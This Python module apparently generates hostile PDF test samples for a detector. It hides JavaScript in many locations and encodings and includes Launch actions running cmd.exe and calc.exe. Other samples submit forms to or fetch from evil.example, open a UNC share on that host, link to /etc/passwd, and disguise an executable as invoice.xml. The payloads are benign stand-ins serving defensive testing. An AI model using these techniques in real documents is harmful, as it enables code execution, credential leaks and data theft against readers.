"""PDFs that run, send, open or carry something, wherever it is hidden."""

from collections.abc import Callable
from typing import Any, Final

import pikepdf

from operations.drills.hostile.drawn import pdf, raw_pdf, sheet, stream, with_entries, zipped
from operations.drills.hostile.sample import Sample, samples

SCRIPT: Final = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE: Final = ("active",)


def _root(**entries: str) -> Callable[[], bytes]:
    return lambda: pdf(with_entries(**entries))


def _note(annotation: str) -> Callable[[], bytes]:
    return lambda: pdf(with_entries("page", Annots=f"[ {annotation} ]"))


def _link(action: str) -> Callable[[], bytes]:
    return _note(f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>")


def _attached(name: str, held: bytes, **entries: Any) -> Callable[[], bytes]:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments[name] = pikepdf.AttachedFileSpec(made, held, filename=name, **entries)

    return lambda: pdf(change)


def _false_invoice() -> bytes:
    """A program that says it is the XML of an electronic invoice."""

    def change(made: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(
            made, b"MZ\x90\0", filename="invoice.xml", mime_type="text/xml", relationship=pikepdf.Name.Data
        )
        made.attachments["invoice.xml"] = spec
        made.Root.AF = pikepdf.Array([spec.obj])

    return pdf(change)


def _file_note() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        held = made.make_stream(b"MZ")
        held.Type = pikepdf.Name.EmbeddedFile
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=[0, 0, 10, 10],
            FS=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=held)),
        )
        made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(note)])

    return pdf(change)


def _unreachable() -> bytes:
    """No reader comes upon it from the catalogue; one that mends the file might."""
    return sheet(o5=SCRIPT.encode())


def _in_an_object_stream() -> bytes:
    return pdf(with_entries(OpenAction=SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _behind_an_empty_password() -> bytes:
    return pdf(with_entries(OpenAction=SCRIPT), encryption=pikepdf.Encryption(owner="o", user=""))


def _deep() -> bytes:
    return pdf(with_entries(Odd="[" * 40 + SCRIPT + "]" * 40))


def _added_later() -> bytes:
    """A second edition behind the first, as editors append them."""
    first = sheet()
    at = len(first)
    catalogue = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT.encode() + b" >>\nendobj\n"
    before = first.rindex(b"startxref\n") + 10
    previous = int(first[before : first.index(b"\n", before)])
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Root 1 0 R /Size 5 /Prev %d >>\n" % (at, previous)
    return first + catalogue + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(catalogue))


def _without_a_table() -> bytes:
    made = sheet(more=b"/AA << /O " + SCRIPT.encode() + b" >>")
    return made[: made.rindex(b"xref\n0")]


def _named_by(name: bytes) -> Callable[[], bytes]:
    return lambda: sheet(more=b"/AA << /O << /S /" + name + b" /J#53 (app.alert\\(1\\)) >> >>")


def _script_as_stream() -> bytes:
    return sheet(more=b"/AA << /O << /S /JavaScript /JS 5 0 R >> >>", o5=stream(b"app.alert(1)"))


def _kind_elsewhere() -> bytes:
    """The action says what it is by pointing to a name that stands apart."""
    return sheet(more=b"/AA << /O << /S 5 0 R /F (calc.exe) >> >>", o5=b"/Launch")


def _in_the_trailer() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    return raw_pdf(objects, trailer=b"/Odd " + SCRIPT.encode())


def _chained() -> bytes:
    return pdf(
        with_entries(OpenAction=f"<< /S /GoTo /D [0 /Fit] /Next [ << /S /Named /N /NextPage >> {SCRIPT} ] >>")
    )


def _portfolio() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["papers.zip"] = zipped(a=b"a")
        made.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection, View=pikepdf.Name.D)

    return pdf(change)


def _damaged_around_a_script() -> bytes:
    made = bytearray(pdf(with_entries(OpenAction=SCRIPT)))
    at = made.rindex(b"startxref") + 10
    made[at : at + 3] = b"999"
    return bytes(made)


FORM_SCRIPT: Final = f"<< /Fields [ << /FT /Tx /T (a) /AA << /K {SCRIPT} >> >> ] >>"
XFA: Final = "<< /XFA [(template) (x)] /Fields [] >>"

SAMPLES: Final[tuple[Sample, ...]] = samples(
    ACTIVE,
    script_when_opened=_root(OpenAction=SCRIPT),
    script_when_closed=_root(AA=f"<< /WC {SCRIPT} >>"),
    script_by_name=_root(Names=f"<< /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
    script_of_a_page=lambda: pdf(with_entries("page", AA=f"<< /O {SCRIPT} >>")),
    script_of_a_field=_root(AcroForm=FORM_SCRIPT),
    script_of_a_link=_link(SCRIPT),
    script_of_a_bookmark=_root(Outlines=f"<< /First << /Title (a) /A {SCRIPT} >> >>"),
    script_in_an_object_stream=_in_an_object_stream,
    script_behind_an_empty_password=_behind_an_empty_password,
    script_in_forty_arrays=_deep,
    script_in_the_trailer=_in_the_trailer,
    script_after_others=_chained,
    script_as_a_stream=_script_as_stream,
    script_nobody_points_to=_unreachable,
    script_in_a_second_edition=_added_later,
    script_without_a_table=_without_a_table,
    script_in_a_damaged_file=_damaged_around_a_script,
    script_written_with_codes=_named_by(b"J#61va#53cript"),
    script_written_with_other_codes=_named_by(b"#4a#61#76#61#53#63#72#69#70#74"),
    launch=_root(OpenAction="<< /S /Launch /F (calc.exe) >>"),
    launch_on_windows=_root(OpenAction="<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    launch_named_elsewhere=_kind_elsewhere,
    form_that_sends=_link("<< /S /SubmitForm /F (http://evil.example/) /Flags 4 >>"),
    form_that_fetches=_link("<< /S /ImportData /F (//evil.example/a) >>"),
    form_of_xfa=_root(AcroForm=XFA),
    attachment=_attached("data.xml", b"<hello/>"),
    attached_program=_attached("a.exe", b"MZ"),
    attached_to_a_note=_file_note,
    portfolio=_portfolio,
    program_called_invoice=_false_invoice,
    opens_an_attachment=_link("<< /S /GoToE /T << /R /C /N (a) >> >>"),
    opens_a_share=_root(OpenAction="<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
    opens_a_share_by_spec=_link("<< /S /GoToR /F << /Type /Filespec /F (//evil.example/a) >> /D [0 /Fit] >>"),
    link_that_is_a_script=_link("<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>"),
    link_to_a_file_of_the_readers=_link("<< /S /URI /URI (file:///etc/passwd) >>"),
    film=_note("<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>"),
    sound=_note("<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>"),
    rich_media=_note("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"),
    model=_note("<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"),
    rendition=_note(
        "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>"  # noqa: E501 - as a PDF writes it.
    ),
)
